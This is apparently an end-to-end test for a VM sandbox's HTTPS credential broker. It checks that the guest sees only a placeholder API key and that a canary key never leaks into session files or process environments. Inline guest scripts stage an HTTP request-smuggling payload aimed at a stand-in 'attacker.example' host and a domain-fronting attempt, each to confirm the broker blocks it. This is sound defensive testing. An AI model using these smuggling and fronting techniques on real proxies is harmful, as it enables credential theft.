/**
 * The broker with a real VM: from inside the guest, node's own HTTPS client goes through the
 * guest's CONNECT proxy and the host broker to an HTTPS server on the host's loopback. The
 * server sees the host's credential; the guest holds only a placeholder. After open → turns →
 * close → resume, a planted canary appears nowhere: not in the session directory (root.raw,
 * config.raw, console.log, broker.log, …), not on the VMM's command line or in its environment,
 * not in the guest's environment.
 */
import { describe, expect, it } from "@effect/vitest"
import * as Effect from "effect/Effect"
import * as Stream from "effect/Stream"
import * as fs from "node:fs"
import * as os from "node:os"
import * as path from "node:path"
import type { BrokerPolicy } from "../src/broker/policy.js"
import { open, resume } from "../src/programs/session.js"
import type { TurnEvent } from "../src/services/GuestRpc.js"
import {
  ensureTestImage,
  processesMentioning,
  testHome,
  vmSkipReason,
  vmSessionLayer
} from "./e2e-vm-image.js"
import { startUpstream } from "./support/brokerHarness.js"

const skip = vmSkipReason()
if (skip !== undefined) console.warn(`e2e broker VM test skipped: ${skip}`)

const stdoutOf = (events: ReadonlyArray<TurnEvent>) =>
  events.map((e) => (e._tag === "Event" && e.event.kind === "stdout" ? e.event.data : "")).join("")

/** node's HTTPS client through $HTTPS_PROXY (CONNECT), trusting the session CA via NODE_EXTRA_CA_CERTS */
const fetchThroughProxy = (host: string, port: number, header: string, target = "/hello", whole = false) =>
  `node -e '
const http = require("http"), https = require("https"), tls = require("tls")
const proxy = new URL(process.env.HTTPS_PROXY)
const req = http.request({ host: proxy.hostname, port: proxy.port, method: "CONNECT", path: "${host}:${port}" })
req.on("connect", (res, socket) => {
  if (res.statusCode !== 200) { console.log("refused " + res.statusCode); process.exit(2) }
  https.get({ host: "${host}", port: ${port}, path: "${target}", headers: { "${header}": process.env.ABOX_TEST_CANARY_KEY },
    createConnection: () => tls.connect({ socket, servername: "${host}" }) }, (r) => {
    ${whole ? `console.log(r.statusCode + " " + r.statusMessage + " " + JSON.stringify(r.headers))` : ""}
    r.pipe(process.stdout)
  })
})
req.end()'`

/**
 * Two attacks from inside the guest, as the turn user, through the guest's CONNECT proxy:
 * request smuggling on the credential host (a chunked GET whose body is a request for another
 * virtual host, then a second request whose key that one would swallow), and domain fronting on
 * a pass-through host (TLS with another name in the SNI). Prints one line per attack.
 */
const attacksFromGuest = (port: number) =>
  `node -e '
const http = require("http"), tls = require("tls")
const proxy = new URL(process.env.HTTPS_PROXY)
const open = (target, servername) => new Promise((resolve) => {
  const req = http.request({ host: proxy.hostname, port: proxy.port, method: "CONNECT", path: target })
  req.on("connect", (res, socket) => {
    if (res.statusCode !== 200) return resolve({ error: "refused " + res.statusCode })
    const s = tls.connect({ socket, servername, rejectUnauthorized: false })
    s.on("secureConnect", () => resolve({ s }))
    s.on("error", (e) => resolve({ error: e.code || e.message }))
    s.on("close", () => resolve({ error: "closed" }))
  })
  req.on("error", (e) => resolve({ error: e.code || e.message }))
  req.end()
})
const talk = (s, text, done) => new Promise((resolve) => {
  let out = ""
  const timer = setTimeout(() => resolve(out), 30000)
  s.on("data", (c) => { out += c; if (done(out)) { clearTimeout(timer); resolve(out) } })
  s.write(text)
})
;(async () => {
  const a = await open("api.test.local:${port}", "api.test.local")
  const smuggled = "POST /collect HTTP/1.1\\r\\nHost: attacker.example\\r\\nContent-Length: 400\\r\\n\\r\\n"
  const first = await talk(a.s, "GET /echo HTTP/1.1\\r\\nHost: api.test.local:${port}\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n" +
    smuggled.length.toString(16) + "\\r\\n" + smuggled + "\\r\\n0\\r\\n\\r\\n", (t) => t.includes("\\r\\n\\r\\n"))
  const second = await talk(a.s, "GET /hello HTTP/1.1\\r\\nHost: api.test.local:${port}\\r\\n\\r\\n", (t) => t.includes("hello from upstream"))
  console.log("smuggling: " + first.split("\\r\\n")[0] + ", then " + (second.includes("hello from upstream") ? "answered" : "swallowed"))
  a.s.destroy()
  const f = await open("front.test.local:${port}", "evil.test")
  console.log("fronting: " + (f.s ? "connected" : "refused"))
  process.exit(0)
})()'`

/** true if `needle` occurs in the file, read in chunks (root.raw is a 2 GiB sparse image) */
const fileContains = (file: string, needle: Buffer): boolean => {
  const fd = fs.openSync(file, "r")
  try {
    const chunk = Buffer.alloc(8 * 1024 * 1024)
    let carry = Buffer.alloc(0)
    for (;;) {
      const n = fs.readSync(fd, chunk, 0, chunk.length, null)
      if (n === 0) return false
      const window = Buffer.concat([carry, chunk.subarray(0, n)])
      if (window.includes(needle)) return true
      carry = window.subarray(Math.max(0, window.length - needle.length))
    }
  } finally {
    fs.closeSync(fd)
  }
}

describe.skipIf(skip !== undefined)("HTTPS broker with a real VM", () => {
  it.live(
    "credential added on the host, placeholder in the guest; the canary is nowhere after open, turns, close, resume",
    () =>
      Effect.gen(function* () {
        yield* Effect.promise(() => ensureTestImage())
        const canary = `sk-ant-api03-canary${Math.random().toString(36).slice(2)}x9`
        process.env.ABOX_TEST_CANARY_KEY = canary
        const upstream = yield* Effect.acquireRelease(
          Effect.promise(() => startUpstream("api.test.local")),
          (u) => Effect.promise(() => u.close())
        )
        const home = fs.mkdtempSync(path.join(os.tmpdir(), "abox-e2e-broker-"))
        fs.symlinkSync(path.join(testHome, "images"), path.join(home, "images"))
        const source = fs.mkdtempSync(path.join(os.tmpdir(), "abox-e2e-broker-src-"))
        fs.writeFileSync(path.join(source, "README.md"), "broker\n")
        const policy: BrokerPolicy = {
          format: 1,
          allow: [
            { host: "api.test.local", ports: [upstream.port] },
            { host: "front.test.local", ports: [upstream.port] }
          ],
          credentials: [{ host: "api.test.local", header: "x-api-key", fromEnv: "ABOX_TEST_CANARY_KEY" }],
          resolve: { "api.test.local": "127.0.0.1", "front.test.local": "127.0.0.1" }
        }
        const layer = vmSessionLayer(home, upstream.caPem)
        const vmmCommandLines: Array<string> = []
        const recordVmm = (dir: string) =>
          Effect.sync(() => {
            // the VMM names the root disk: root.qcow2 (an overlay) or root.raw
            for (const pid of processesMentioning(path.join(dir, "root."))) {
              vmmCommandLines.push(fs.readFileSync(`/proc/${pid}/cmdline`, "utf8"))
              vmmCommandLines.push(fs.readFileSync(`/proc/${pid}/environ`, "utf8"))
            }
          })
        const fetch = fetchThroughProxy("api.test.local", upstream.port, "x-api-key")

        const id = yield* Effect.gen(function* () {
          const id = yield* Effect.scoped(
            Effect.gen(function* () {
              const session = yield* open({ source, policy })
              yield* recordVmm(session.dir)
              const env = stdoutOf(Array.from(yield* Stream.runCollect(session.turn("env"))))
              expect(env).toContain("ABOX_TEST_CANARY_KEY=abox-placeholder")
              expect(env).not.toContain(canary)
              expect(stdoutOf(Array.from(yield* Stream.runCollect(session.turn(fetch))))).toBe(
                "hello from upstream\n"
              )
              // a server echoing the request's headers: what the guest reads holds the placeholder
              const reflectedEvents = Array.from(
                yield* Stream.runCollect(
                  session.turn(
                    fetchThroughProxy("api.test.local", upstream.port, "x-api-key", "/reflect?split=4", true)
                  )
                )
              )
              const reflected = stdoutOf(reflectedEvents)
              const all = JSON.stringify(reflectedEvents.map((e) => (e._tag === "Event" ? e.event : e)))
              expect(reflected, all).toMatch(/^200 OK abox-placeholder \{/)
              expect(reflected, all).toContain(`"x-reflect-x-api-key":"abox-placeholder"`)
              expect(reflected, all).toContain(`"reflected":{"x-api-key":"abox-placeholder"}`)
              expect(all).not.toContain(canary)
              const attacks = stdoutOf(
                Array.from(yield* Stream.runCollect(session.turn(attacksFromGuest(upstream.port))))
              )
              expect(attacks).toBe("smuggling: HTTP/1.1 404 Not Found, then answered\nfronting: refused\n")
              return session.id
            })
          )
          yield* Effect.scoped(
            Effect.gen(function* () {
              const session = yield* resume(id)
              yield* recordVmm(session.dir)
              expect(stdoutOf(Array.from(yield* Stream.runCollect(session.turn(fetch))))).toBe(
                "hello from upstream\n"
              )
            })
          )
          return id
        }).pipe(Effect.provide(layer))

        // the smuggled request never reached attacker.example; no body carried the key
        expect(upstream.seen.map((r) => [r.url, r.headers["host"], r.headers["x-api-key"]])).toEqual([
          ["/hello", `api.test.local:${upstream.port}`, canary],
          ["/reflect?split=4", `api.test.local:${upstream.port}`, canary],
          ["/echo", `api.test.local:${upstream.port}`, canary],
          ["/hello", `api.test.local:${upstream.port}`, canary],
          ["/hello", `api.test.local:${upstream.port}`, canary]
        ])
        expect(upstream.seen.some((r) => r.body.includes(canary))).toBe(false)
        const dir = path.join(home, "sessions", id)
        const files = fs.readdirSync(dir).filter((f) => fs.statSync(path.join(dir, f)).isFile())
        expect(files).toEqual(expect.arrayContaining(["config.raw", "console.log", "broker.log"]))
        expect(files.filter((f) => f === "root.raw" || f === "root.qcow2")).toHaveLength(1)
        const needle = Buffer.from(canary)
        for (const file of files) expect(fileContains(path.join(dir, file), needle), file).toBe(false)
        expect(vmmCommandLines.length).toBeGreaterThanOrEqual(4)
        for (const text of vmmCommandLines) expect(text).not.toContain(canary)
        delete process.env.ABOX_TEST_CANARY_KEY
      }).pipe(Effect.scoped),
    600_000
  )
})
